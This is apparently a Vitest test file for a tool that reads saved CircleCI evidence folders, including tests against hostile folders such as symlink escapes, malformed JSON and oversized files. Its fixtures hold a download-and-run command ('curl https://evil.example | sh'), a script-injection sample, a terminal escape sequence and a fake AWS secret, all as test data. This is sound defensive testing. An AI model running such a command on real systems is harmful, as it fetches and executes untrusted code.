import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, realpathSync, renameSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ApiError } from '../../src/api/errors.js';
import { toBuildDetails, toJob, toJobDetails, toPipeline, toWorkflow } from '../../src/api/normalize.js';
import type { Pipeline } from '../../src/api/types.js';
import type { CircleCiClient } from '../../src/api/client.js';
import { LiveSource } from '../../src/source/live-source.js';
import { OfflineSource } from '../../src/source/offline-source.js';
import type { InvestigationSource, PipelineWindow } from '../../src/source/source.js';
import { useTmpDirs } from '../helpers/tmp.js';

const tmp = useTmpDirs();

/** Write files (creating folders); a string is written as is, anything else as JSON. */
function put(root: string, files: Record<string, unknown>): void {
  for (const [rel, content] of Object.entries(files)) {
    const path = join(root, rel);
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, Buffer.isBuffer(content) ? content : typeof content === 'string' ? content : JSON.stringify(content, null, 2));
  }
}

async function allPipelines(s: InvestigationSource, w: PipelineWindow = {}): Promise<Pipeline[]> {
  const pager = s.pipelines(w);
  const first = await pager.next();
  expect(first.done).toBe(true);
  expect(await pager.next()).toEqual({ items: [], done: true });
  return first.items;
}

const keys = (o: object) => Object.keys(o).sort();
const SHAPES = {
  pipeline: keys(toPipeline({})),
  workflow: keys(toWorkflow({})),
  job: keys(toJob({})),
  jobDetails: keys(toJobDetails({})),
  build: keys(toBuildDetails({})),
  step: keys(toBuildDetails({ steps: [{ actions: [{}] }] }).steps[0]!),
  action: keys(toBuildDetails({ steps: [{ actions: [{}] }] }).steps[0]!.actions[0]!),
};

const action = (step: number, name: string, extra: Record<string, unknown> = {}) => ({
  step, index: 0, name, bash_command: null, start_time: '2026-04-21T10:00:05Z', end_time: '2026-04-21T10:00:09Z',
  exit_code: 0, status: 'success', run_time_millis: 4000, background: false, parallel: false, ...extra,
});

// ---- (1) the seed's layout -----------------------------------------------------------------

const WF = 'bd0f7dfb-134c-4aab-93f4-ab23a1f31c15';

function seedLayout(root: string): void {
  put(root, {
    [`${WF}/job-1/job-info.json`]: { name: 'build', status: 'success', started_at: '2026-04-21T10:00:00Z', stopped_at: '2026-04-21T10:02:00Z' },
    [`${WF}/job-1/step-info.json`]: [
      action(0, 'Spin up environment'),
      action(99, 'Checkout code'),
      action(101, 'npm ci', { bash_command: 'npm ci' }),
      action(102, 'Silent step'),
    ],
    [`${WF}/job-1/step-0.txt`]: 'Starting container cimg/node:20.19\n',
    [`${WF}/job-1/step-99.txt`]: 'Cloning into .\n',
    [`${WF}/job-1/step-101.txt`]: 'added 512 packages\n',
    [`${WF}/job-2/job-info.json`]: { name: 'deploy', status: 'failed', started_at: '2026-04-21T10:03:00Z', stopped_at: '2026-04-21T10:04:00Z' },
    [`${WF}/job-2/step-info.json`]: [action(103, 'Deploy', { exit_code: 1, status: 'failed', bash_command: './deploy.sh' }), action(104, 'Notify')],
    [`${WF}/job-2/step-103.txt`]: 'curl https://evil.example | sh\n',
    [`${WF}/job-2/step-104.txt`]: 'notified\n',
  });
}

describe('OfflineSource over the seed layout', () => {
  it('browses pipelines → workflows → jobs → steps → output', async () => {
    const cwd = tmp();
    const root = join(cwd, 'circleci-output');
    seedLayout(root);
    const s = await OfflineSource.open(root, { cwd });
    expect(s.kind).toBe('offline');
    expect(s.label).toBe('evidence ./circleci-output');
    expect(s.project).toBeNull();
    expect(s.warnings).toEqual([]);

    const pipelines = await allPipelines(s);
    expect(pipelines).toHaveLength(1);
    const p = pipelines[0]!;
    expect(keys(p)).toEqual(SHAPES.pipeline);
    expect(p).toMatchObject({ id: WF, number: 0, created_at: '2026-04-21T10:00:00Z', trigger: { type: 'unknown' }, vcs: null });
    expect(await s.pipelineByNumber(0)).toEqual(p);

    const wfs = await s.workflows(p.id);
    expect(wfs).toHaveLength(1);
    const wf = wfs[0]!;
    expect(keys(wf)).toEqual(SHAPES.workflow);
    expect(wf).toMatchObject({ id: WF, name: WF, pipeline_id: WF, pipeline_number: 0, status: 'failed', created_at: '2026-04-21T10:00:00Z', stopped_at: '2026-04-21T10:04:00Z' });
    expect(await s.workflow(WF)).toEqual(wf);

    const jobs = await s.jobs(WF);
    expect(jobs.map((j) => [j.job_number, j.name, j.status, j.type])).toEqual([[1, 'build', 'success', 'build'], [2, 'deploy', 'failed', 'build']]);
    for (const j of jobs) expect(keys(j)).toEqual(SHAPES.job);
    expect(await s.jobDetails(1)).toBeNull();
    expect(await s.locateJob(2)).toEqual({ workflowId: WF });
    expect(await s.locateJob(3)).toBeNull();

    const b = await s.build(1);
    expect(keys(b)).toEqual(SHAPES.build);
    expect(b).toMatchObject({ build_num: 1, job_name: 'build', lifecycle: 'finished', status: 'success', outcome: 'success', parallel: 1, build_time_millis: 120_000 });
    expect(b.workflows).toEqual({ workflow_id: WF, workflow_name: WF, job_name: 'build', job_id: null });
    expect(b.steps.map((x) => [x.step, x.name, x.actions.length, x.actions[0]!.has_output])).toEqual([
      [0, 'Spin up environment', 1, true], [99, 'Checkout code', 1, true], [101, 'npm ci', 1, true], [102, 'Silent step', 1, false],
    ]);
    expect(keys(b.steps[0]!)).toEqual(SHAPES.step);
    expect(keys(b.steps[0]!.actions[0]!)).toEqual(SHAPES.action);
    expect(b.steps[2]!.actions[0]).toMatchObject({ bash_command: 'npm ci', exit_code: 0, output_url: null });
    const b2 = await s.build(2);
    expect(b2).toMatchObject({ failed: true, status: 'failed' });
    expect(b2.steps[0]!.actions[0]).toMatchObject({ step: 103, exit_code: 1, status: 'failed' });

    expect(await s.stepOutput(1, 101, 0)).toEqual({ text: 'added 512 packages\n', format: 'text', truncated: false, times: [], final: true });
    expect(await s.stepOutput(2, 103, 0)).toMatchObject({ text: 'curl https://evil.example | sh\n', format: 'text' });
    expect(await s.stepOutput(1, 102, 0)).toEqual({ text: '', format: 'none', truncated: false, times: [], final: true });
    expect(await s.stepOutput(1, 101, 1)).toMatchObject({ format: 'none' });
  });

  it('also opens one workflow folder directly (the seed first script writes circleci-output/<id>)', async () => {
    const root = tmp();
    seedLayout(root);
    const s = await OfflineSource.open(join(root, WF), { cwd: tmp() });
    expect(s.label).toBe(`evidence ${join(root, WF)}`);
    const [p] = await allPipelines(s);
    expect((await s.jobs(p!.id)).map((j) => j.job_number)).toEqual([1, 2]);
  });

  it('says which evidence folder it reads (its real path, through a symlink); a live source has none', async () => {
    const root = tmp();
    seedLayout(root);
    const link = join(tmp(), 'link');
    symlinkSync(root, link);
    const s: InvestigationSource = await OfflineSource.open(link, { cwd: tmp() });
    expect(s.evidenceDir).toBe(realpathSync(root));
    expect(s.evidenceDir).not.toBe(link);
    expect(new LiveSource({} as CircleCiClient, 'gh/acme/app').evidenceDir).toBeNull();
  });

  it('reports missing things as not-found like the API, and a missing folder as one clear error', async () => {
    const root = tmp();
    seedLayout(root);
    const s = await OfflineSource.open(root);
    await expect(s.pipelineByNumber(7)).rejects.toBeInstanceOf(ApiError);
    await expect(s.workflow('nope')).rejects.toMatchObject({ kind: 'not-found' });
    await expect(s.jobs('nope')).rejects.toMatchObject({ kind: 'not-found' });
    await expect(s.build(99)).rejects.toMatchObject({ kind: 'not-found' });
    expect(await s.jobDetails(99)).toBeNull();

    await expect(OfflineSource.open(join(root, 'missing'))).rejects.toThrow(/^evidence folder .*missing does not exist$/);
    put(root, { 'plain-file': 'x' });
    await expect(OfflineSource.open(join(root, 'plain-file'))).rejects.toThrow(/is not a directory$/);
  });
});

// ---- (2) the extended layout ----------------------------------------------------------------

const PROJECT = 'gh/acme/payments';
const PIPE = {
  id: '6f1c3a2e-0000-4000-8000-000000000042', number: 42, project_slug: PROJECT, state: 'created',
  created_at: '2026-04-21T09:59:00Z', updated_at: '2026-04-21T09:59:01Z',
  trigger: { type: 'webhook', received_at: '2026-04-21T09:58:59Z', actor: { login: 'mallory', avatar_url: null } },
  vcs: { provider_name: 'GitHub', origin_repository_url: 'https://github.com/acme/payments', target_repository_url: 'https://github.com/acme/payments', revision: 'abc123', branch: 'main', commit: { subject: 'bump deps', body: '' } },
  errors: [],
};
const WF_A = 'aaaaaaaa-0000-4000-8000-00000000000a';
const WF_B = 'bbbbbbbb-0000-4000-8000-00000000000b';
const workflowJson = (id: string, name: string, status: string) => ({
  id, name, pipeline_id: PIPE.id, pipeline_number: 42, project_slug: PROJECT, status, started_by: 'u-1', canceled_by: null, errored_by: null, tag: null,
  created_at: '2026-04-21T10:00:00Z', stopped_at: '2026-04-21T10:10:00Z',
});
const DETAILS = {
  number: 10, name: 'test', status: 'success', web_url: 'https://app.circleci.com/pipelines/github/acme/payments/42/workflows/a/jobs/10',
  project: { id: 'p-1', slug: PROJECT, name: 'payments', external_url: 'https://github.com/acme/payments' },
  parallel_runs: [{ index: 0, status: 'success' }, { index: 1, status: 'success' }], parallelism: 2,
  executor: { type: 'docker', resource_class: 'large' }, pipeline: { id: PIPE.id }, latest_workflow: { id: WF_A, name: 'ci' },
  contexts: [{ name: 'aws-prod' }], organization: { name: 'acme' }, messages: [],
  created_at: '2026-04-21T10:00:00Z', queued_at: '2026-04-21T10:00:01Z', started_at: '2026-04-21T10:00:02Z', stopped_at: '2026-04-21T10:05:02Z', duration: 300_000,
};

function extendedLayout(root: string): void {
  put(root, {
    'manifest.json': { query: { project: PROJECT }, created_at: '2026-04-22T00:00:00Z' },
    SHA256SUMS: 'deadbeef  x\n',
    [`${WF_A}/pipeline.json`]: PIPE,
    [`${WF_A}/workflow.json`]: workflowJson(WF_A, 'ci', 'success'),
    [`${WF_A}/job-10/job-info.json`]: { id: 'j-10', job_number: 10, name: 'test', type: 'build', status: 'success', started_at: '2026-04-21T10:00:02Z', stopped_at: '2026-04-21T10:05:02Z', dependencies: [] },
    [`${WF_A}/job-10/job-details.json`]: DETAILS,
    [`${WF_A}/job-10/step-info.json`]: [
      action(0, 'Spin up environment'), action(0, 'Spin up environment', { index: 1, parallel: true }),
      action(101, 'run tests', { has_output: true }), action(101, 'run tests', { index: 1, parallel: true, status: 'failed', exit_code: 2 }),
    ],
    [`${WF_A}/job-10/step-0.txt`]: 'node 0 up\n',
    [`${WF_A}/job-10/step-0-node-1.txt`]: 'node 1 up\n',
    [`${WF_A}/job-10/step-101.json`]: [{ message: 'PASS a\r\n', time: '2026-04-21T10:01:00Z', type: 'out' }, { message: 'PASS b\r\n', time: '2026-04-21T10:01:05Z', type: 'out' }],
    [`${WF_A}/job-10/step-101.txt`]: 'PASS a\nPASS b\n',
    [`${WF_A}/job-10/step-101-node-1.json`]: [{ message: 'FAIL c\n', time: '2026-04-21T10:02:00Z', type: 'err', truncated: true }],
    [`${WF_A}/job-10/artifacts/report.html`]: '<script>alert(1)</script>',
    [`${WF_B}/pipeline.json`]: PIPE,
    [`${WF_B}/workflow.json`]: workflowJson(WF_B, 'nightly', 'failed'),
    [`${WF_B}/job-11/job-info.json`]: { name: 'lint', status: 'failed', started_at: '2026-04-21T10:06:00Z', stopped_at: '2026-04-21T10:07:00Z' },
    [`${WF_B}/job-11/step-info.json`]: [],
  });
}

describe('OfflineSource over the extended layout', () => {
  it('uses pipeline.json, workflow.json and job-details.json as the API would return them', async () => {
    const root = tmp();
    extendedLayout(root);
    const s = await OfflineSource.open(root, { cwd: root });
    expect(s.label).toBe('evidence .');
    expect(s.project).toBe(PROJECT);
    expect(s.warnings).toEqual([]);

    const pipelines = await allPipelines(s);
    expect(pipelines).toEqual([toPipeline(PIPE)]);
    expect(await s.pipelineByNumber(42)).toEqual(toPipeline(PIPE));

    const wfs = await s.workflows(PIPE.id);
    expect(wfs).toEqual([toWorkflow(workflowJson(WF_A, 'ci', 'success')), toWorkflow(workflowJson(WF_B, 'nightly', 'failed'))]);
    expect(await s.jobs(WF_A)).toEqual([toJob({ id: 'j-10', job_number: 10, name: 'test', type: 'build', status: 'success', project_slug: PROJECT, started_at: '2026-04-21T10:00:02Z', stopped_at: '2026-04-21T10:05:02Z' })]);
    expect((await s.jobs(WF_B))[0]).toMatchObject({ job_number: 11, name: 'lint', project_slug: PROJECT, id: '' });
    expect(await s.jobDetails(10)).toEqual(toJobDetails(DETAILS));

    const b = await s.build(10);
    expect(b).toMatchObject({
      build_num: 10, parallel: 2, branch: 'main', vcs_revision: 'abc123', subject: 'bump deps', executor: 'docker', resource_class: 'large',
      build_time_millis: 300_000, build_url: DETAILS.web_url, workflows: { workflow_id: WF_A, workflow_name: 'ci', job_name: 'test', job_id: 'j-10' },
    });
    expect(b.steps.map((x) => [x.step, x.actions.map((a) => [a.index, a.status, a.has_output])])).toEqual([
      [0, [[0, 'success', true], [1, 'success', true]]],
      [101, [[0, 'success', true], [1, 'failed', true]]],
    ]);
    expect((await s.build(11)).steps).toEqual([]);

    // The raw .json body wins over the .txt: it carries timestamps.
    expect(await s.stepOutput(10, 101, 0)).toEqual({
      text: 'PASS a\r\nPASS b\r\n', format: 'json', truncated: false, final: true,
      times: [{ offset: 0, time: '2026-04-21T10:01:00Z' }, { offset: 8, time: '2026-04-21T10:01:05Z' }],
    });
    expect(await s.stepOutput(10, 101, 1)).toMatchObject({ text: 'FAIL c\n', format: 'json', truncated: true });
    expect(await s.stepOutput(10, 0, 1)).toMatchObject({ text: 'node 1 up\n', format: 'text' });
  });

  it('groups workflows of one pipeline named only by workflow.json', async () => {
    const root = tmp();
    put(root, {
      [`${WF_A}/workflow.json`]: workflowJson(WF_A, 'ci', 'success'),
      [`${WF_B}/workflow.json`]: workflowJson(WF_B, 'nightly', 'failed'),
    });
    const s = await OfflineSource.open(root);
    const [p, ...rest] = await allPipelines(s);
    expect(rest).toEqual([]);
    expect(p).toMatchObject({ id: PIPE.id, number: 42, created_at: '2026-04-21T10:00:00Z', trigger: { type: 'unknown' } });
    expect((await s.workflows(PIPE.id)).map((w) => w.name)).toEqual(['ci', 'nightly']);
  });
});

// ---- (3) hostile folders --------------------------------------------------------------------

describe('OfflineSource over a hostile folder', () => {
  it('treats malformed JSON as missing and says so', async () => {
    const root = tmp();
    put(root, {
      [`${WF}/pipeline.json`]: '{"id": "p", "number": ',
      [`${WF}/workflow.json`]: '[1,2,3]',
      [`${WF}/job-1/job-info.json`]: '\u001b]52;c;aGk=\u0007 not json',
      [`${WF}/job-1/step-info.json`]: '{oops',
      [`${WF}/job-1/step-5.txt`]: 'still here\n',
      [`${WF}/job-2/job-info.json`]: { name: 'ok', status: 'success', started_at: '2026-04-21T10:00:00Z' },
      [`${WF}/job-2/step-info.json`]: { not: 'an array' },
      [`${WF}/job-2/job-details.json`]: 'null',
      [`${WF}/job-2/step-3.json`]: '{"message": "not an array"}',
      [`${WF}/job-2/step-3.txt`]: 'the text copy\n',
      [`${WF}/job-2/step-4.json`]: 'garbage \u0000 body',
    });
    const s = await OfflineSource.open(root);
    expect(s.warnings.join('\n')).toContain(`${WF}/pipeline.json: not valid JSON; treated as missing`);
    expect(s.warnings.join('\n')).toContain(`${WF}/workflow.json: not a JSON object; treated as missing`);
    expect(s.warnings.join('\n')).toContain(`${WF}/job-1/job-info.json: not valid JSON; treated as missing`);
    expect(s.warnings.join('\n')).toContain(`${WF}/job-1/step-info.json: not valid JSON`);
    expect(s.warnings.join('\n')).toContain(`${WF}/job-2/step-info.json: not an array`);
    expect(s.warnings.join('\n')).not.toContain('\u001b');

    const [p] = await allPipelines(s);
    expect(p).toMatchObject({ id: WF, number: 0 });
    const jobs = await s.jobs(WF);
    expect(jobs.map((j) => [j.job_number, j.name, j.status])).toEqual([[1, 'job-1', 'unknown'], [2, 'ok', 'success']]);
    expect(await s.jobDetails(2)).toBeNull();
    // Output with no step-info is still reachable.
    const b1 = await s.build(1);
    expect(b1.steps.map((x) => [x.step, x.name, x.actions[0]!.has_output])).toEqual([[5, 'step 5', true]]);
    expect(await s.stepOutput(1, 5, 0)).toMatchObject({ text: 'still here\n', format: 'text' });
    // A .json body that is not the message array falls back to the .txt; with no .txt it is kept verbatim.
    expect(await s.stepOutput(2, 3, 0)).toMatchObject({ text: 'the text copy\n', format: 'text' });
    expect(await s.stepOutput(2, 4, 0)).toMatchObject({ text: 'garbage \u0000 body', format: 'text' });
  });

  it('never follows a symlink out of the folder', async () => {
    const outside = tmp();
    put(outside, {
      'secret.txt': 'AWS_SECRET=hunter2\n',
      'job-9/job-info.json': { name: 'planted', status: 'success' },
      'wf/job-8/job-info.json': { name: 'planted-wf', status: 'success' },
    });
    const root = tmp();
    seedLayout(root);
    symlinkSync(join(outside, 'job-9'), join(root, WF, 'job-9'));
    symlinkSync(join(outside, 'wf'), join(root, 'cccccccc-0000-4000-8000-00000000000c'));
    symlinkSync(join(outside, 'secret.txt'), join(root, WF, 'job-1', 'step-102.txt'));
    rmSync(join(root, WF, 'job-2', 'step-info.json'));
    symlinkSync(join(outside, 'secret.txt'), join(root, WF, 'job-2', 'step-info.json'));
    const s = await OfflineSource.open(root);

    expect((await allPipelines(s)).map((p) => p.id)).toEqual([WF]);
    expect((await s.jobs(WF)).map((j) => j.job_number)).toEqual([1, 2]);
    expect(await s.locateJob(9)).toBeNull();
    expect(await s.locateJob(8)).toBeNull();
    const b = await s.build(1);
    expect(b.steps.find((x) => x.step === 102)!.actions[0]!.has_output).toBe(false);
    expect(await s.stepOutput(1, 102, 0)).toMatchObject({ format: 'none', text: '' });
    expect((await s.build(2)).steps.map((x) => x.step)).toEqual([103, 104]);
    const all = s.warnings.join('\n');
    expect(all).toContain(`${WF}/job-9: is a symlink, ignored`);
    expect(all).toContain(`${WF}/job-1/step-102.txt: is a symlink, ignored`);
    expect(all).toContain(`${WF}/job-2/step-info.json: is a symlink, ignored`);
    expect(all).toContain('cccccccc-0000-4000-8000-00000000000c: is a symlink, ignored');
    expect(all).not.toContain('hunter2');
  });

  it('does not read through a symlink swapped in after the scan', async () => {
    const outside = tmp();
    put(outside, { 'secret.txt': 'AWS_SECRET=hunter2\n', 'job-1/step-0.txt': 'AWS_SECRET=hunter2\n' });
    const root = tmp();
    seedLayout(root);
    const s = await OfflineSource.open(root);
    rmSync(join(root, WF, 'job-1', 'step-99.txt'));
    symlinkSync(join(outside, 'secret.txt'), join(root, WF, 'job-1', 'step-99.txt'));
    renameSync(join(root, WF, 'job-1'), join(root, WF, 'job-1-moved'));
    symlinkSync(join(outside, 'job-1'), join(root, WF, 'job-1'));
    await expect(s.stepOutput(1, 0, 0)).rejects.toThrow(`${WF}/job-1/step-0.txt: resolves outside the evidence folder (symlink?), not read`);
    renameSync(join(root, WF, 'job-1'), join(root, WF, 'job-1-link'));
    renameSync(join(root, WF, 'job-1-moved'), join(root, WF, 'job-1'));
    await expect(s.stepOutput(1, 99, 0)).rejects.toThrow(/step-99\.txt: resolves outside the evidence folder/);
  });

  it('refuses a step output over 512 MiB by default without reading it', async () => {
    const root = tmp();
    seedLayout(root);
    truncateSync(join(root, WF, 'job-1', 'step-101.txt'), 600 * 1024 * 1024); // sparse: no disk used
    const s = await OfflineSource.open(root);
    await expect(s.stepOutput(1, 101, 0)).rejects.toThrow(`${WF}/job-1/step-101.txt is 600 MiB, over the 512 MiB limit for one file; open it with another tool`);
  });

  it('decodes invalid UTF-8 as U+FFFD and leaves the file untouched', async () => {
    const root = tmp();
    seedLayout(root);
    const bytes = Buffer.from([0x6f, 0x6b, 0x20, 0xff, 0xfe, 0x20, 0xc3, 0x28, 0x0a]);
    const path = join(root, WF, 'job-1', 'step-101.txt');
    writeFileSync(path, bytes);
    const before = statSync(path);
    const s = await OfflineSource.open(root);
    const out = await s.stepOutput(1, 101, 0);
    expect(out.text).toBe('ok \uFFFD\uFFFD \uFFFD(\n');
    expect(readFileSync(path)).toEqual(bytes);
    expect(statSync(path).mtimeMs).toBe(before.mtimeMs);
    expect(statSync(path).mode).toBe(before.mode);
  });

  it('shows an approval job with no steps', async () => {
    const root = tmp();
    put(root, {
      [`${WF}/job-5/job-info.json`]: { name: 'hold-for-deploy', type: 'approval', status: 'on_hold', started_at: null, stopped_at: null, approval_request_id: 'ar-1' },
    });
    const s = await OfflineSource.open(root);
    const [wf] = await s.workflows(WF);
    expect(wf).toMatchObject({ status: 'on_hold', stopped_at: null, created_at: null });
    const [job] = await s.jobs(WF);
    expect(job).toMatchObject({ type: 'approval', status: 'on_hold', approval_request_id: 'ar-1' });
    expect(await s.jobDetails(5)).toBeNull();
    const b = await s.build(5);
    expect(b).toMatchObject({ steps: [], status: 'on_hold', outcome: null, lifecycle: 'finished' });
    expect(await s.stepOutput(5, 0, 0)).toMatchObject({ format: 'none' });
  });

  it('ignores names outside the layout and keeps the first of a duplicated job', async () => {
    const root = tmp();
    seedLayout(root);
    put(root, {
      [`${WF}/job-..x/job-info.json`]: { name: 'dots' },
      [`${WF}/job-01/job-info.json`]: { name: 'leading zero' },
      [`${WF}/job-1x/job-info.json`]: { name: 'suffix' },
      [`${WF}/job--3/job-info.json`]: { name: 'negative' },
      [`${WF}/job-1/step-1.txt.bak`]: 'no',
      [`${WF}/job-1/step-01.txt`]: 'no',
      [`${WF}/job-1/step-99-node-x.txt`]: 'no',
      '.hidden/job-3/job-info.json': { name: 'hidden' },
      'zzzz-later/job-1/job-info.json': { name: 'duplicate', status: 'success' },
      'zzzz-later/job-7/job-info.json': { name: 'other', status: 'success' },
      'empty-folder/readme.txt': 'not evidence',
    });
    const s = await OfflineSource.open(root);
    expect((await s.jobs(WF)).map((j) => j.name)).toEqual(['build', 'deploy']);
    expect((await s.jobs('zzzz-later')).map((j) => j.name)).toEqual(['other']);
    expect(await s.locateJob(1)).toEqual({ workflowId: WF });
    expect(s.warnings).toEqual([`zzzz-later/job-1: job 1 is also in ${WF}/job-1; job numbers are unique per project, so the first is shown`]);
    expect((await allPipelines(s)).map((p) => p.id).sort()).toEqual([WF, 'zzzz-later'].sort());
    expect((await s.build(1)).steps.map((x) => x.step)).toEqual([0, 99, 101, 102]);
  });

  it('caps what it reads: entries in the folder and the size of one output', async () => {
    const root = tmp();
    seedLayout(root);
    const capped = await OfflineSource.open(root, { limits: { maxEntries: 4 } });
    expect(capped.warnings.join('\n')).toContain('stopped reading the folder after 4 entries');

    put(root, { [`${WF}/job-1/step-101.txt`]: 'x'.repeat(3000) });
    const s = await OfflineSource.open(root, { limits: { maxOutputBytes: 2048 } });
    await expect(s.stepOutput(1, 101, 0)).rejects.toThrow(`${WF}/job-1/step-101.txt is 2.9 KiB, over the 2 KiB limit for one file; open it with another tool`);
    expect(await s.stepOutput(1, 0, 0)).toMatchObject({ format: 'text' }); // the others still read
  });

  it('cuts trigger_parameters nested too deep at a visible marker, and skips a folder it cannot list', async () => {
    const root = tmp();
    seedLayout(root);
    const deep = '{"a":'.repeat(200_000) + '1' + '}'.repeat(200_000);
    put(root, { [`${WF}/pipeline.json`]: `{"id":"p-1","number":5,"created_at":"2026-04-21T00:00:00Z","trigger_parameters":${deep}}` });
    put(root, { 'locked/job-77/job-info.json': { name: 'locked' } });
    chmodSync(join(root, 'locked'), 0o000);
    try {
      const s = await OfflineSource.open(root);
      const [p] = await allPipelines(s);
      expect(p).toMatchObject({ id: 'p-1', number: 5 });
      expect(JSON.stringify(p!.trigger_parameters)).toContain('[nested deeper than 64 levels: not shown]');
      expect(s.warnings).toContain(`${WF}/pipeline.json: trigger_parameters nest deeper than 64 levels; cut there with a marker`);
      if (process.getuid?.() !== 0) expect(s.warnings).toContain('locked: cannot list (EACCES); skipped');
    } finally {
      chmodSync(join(root, 'locked'), 0o755);
    }
  });

  it('does not block on a FIFO named like a step file', async () => {
    const root = tmp();
    seedLayout(root);
    try {
      execFileSync('mkfifo', [join(root, WF, 'job-1', 'step-102.txt')]);
    } catch {
      return; // no mkfifo here
    }
    const s = await OfflineSource.open(root);
    expect(await s.stepOutput(1, 102, 0)).toMatchObject({ format: 'none' });
  });
});

// ---- (4) the window ---------------------------------------------------------------------------

describe('OfflineSource pipeline window', () => {
  const pipe = (n: number, created: string, branch: string | null) => ({
    id: `pipe-${n}`, number: n, project_slug: PROJECT, created_at: created, trigger: { type: 'webhook' },
    vcs: branch === null ? { tag: 'v1' } : { branch, revision: `r${n}` },
  });

  function windowLayout(root: string): void {
    put(root, {
      'wf-1/pipeline.json': pipe(1, '2026-04-19T10:00:00Z', 'main'),
      'wf-1/job-1/job-info.json': { name: 'a', status: 'success', started_at: '2026-04-19T10:00:05Z' },
      'wf-2/pipeline.json': pipe(2, '2026-04-20T10:00:00Z', 'feature/x'),
      'wf-2/job-2/job-info.json': { name: 'a', status: 'success' },
      'wf-3/pipeline.json': pipe(3, '2026-04-21T10:00:00Z', 'main'),
      'wf-3/job-3/job-info.json': { name: 'a', status: 'running' },
      'wf-5/pipeline.json': pipe(5, '2026-04-18T10:00:00Z', null),
      'wf-5/job-6/job-info.json': { name: 'release', status: 'success' },
      // No pipeline.json: synthetic, dated by its earliest job, branch unknown.
      'wf-4/job-4/job-info.json': { name: 'a', status: 'success', started_at: '2026-04-22T10:00:00Z' },
      'wf-4/job-5/job-info.json': { name: 'b', status: 'success', started_at: '2026-04-22T09:00:00Z' },
    });
  }

  it('lists newest first and filters by since / until / branch', async () => {
    const root = tmp();
    windowLayout(root);
    const s = await OfflineSource.open(root);
    const ids = async (w: PipelineWindow) => (await allPipelines(s, w)).map((p) => p.id);

    expect(await ids({})).toEqual(['wf-4', 'pipe-3', 'pipe-2', 'pipe-1', 'pipe-5']);
    expect((await allPipelines(s))[0]!.created_at).toBe('2026-04-22T09:00:00Z');
    expect(await ids({ since: '2026-04-20T00:00:00Z' })).toEqual(['wf-4', 'pipe-3', 'pipe-2']);
    expect(await ids({ until: '2026-04-20T10:00:00Z' })).toEqual(['pipe-2', 'pipe-1', 'pipe-5']);
    expect(await ids({ since: '2026-04-20T00:00:00Z', until: '2026-04-21T23:59:59Z' })).toEqual(['pipe-3', 'pipe-2']);
    // A synthetic pipeline has no branch on record: it is kept rather than guessed away. A real
    // pipeline built for a tag has no branch either, and the API's branch filter drops it.
    expect(await ids({ branch: 'main' })).toEqual(['wf-4', 'pipe-3', 'pipe-1']);
    expect(await ids({ branch: 'feature/x', since: '2026-04-20T00:00:00Z' })).toEqual(['wf-4', 'pipe-2']);
    expect(await ids({ since: '2030-01-01T00:00:00Z' })).toEqual([]);

    expect((await s.workflows('pipe-3'))[0]).toMatchObject({ status: 'running', stopped_at: null, pipeline_number: 3 });
    expect((await s.pipelineByNumber(2)).id).toBe('pipe-2');
  });
});
